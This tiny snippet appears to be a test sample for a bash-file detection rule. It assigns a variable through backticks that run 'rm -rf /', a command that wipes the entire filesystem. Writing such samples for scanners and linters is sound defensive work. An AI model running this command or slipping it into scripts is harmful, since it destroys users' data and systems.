# rule: bash-files
A=`rm -rf /`
